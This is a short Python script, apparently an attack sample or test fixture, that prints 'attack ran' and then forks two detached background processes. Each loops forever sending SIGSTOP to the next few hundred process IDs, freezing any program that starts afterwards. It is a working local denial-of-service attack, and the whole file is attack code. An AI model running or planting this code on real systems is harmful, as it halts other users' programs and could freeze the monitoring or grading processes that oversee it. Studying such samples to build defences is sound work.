import os
import signal

print("attack ran", flush=True)
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        own = os.getpid()
        while True:
            # Process numbers rise: whoever comes now has one of the next.
            for process in range(own + 1, own + 400):
                try:
                    os.kill(process, signal.SIGSTOP)
                except OSError:
                    pass
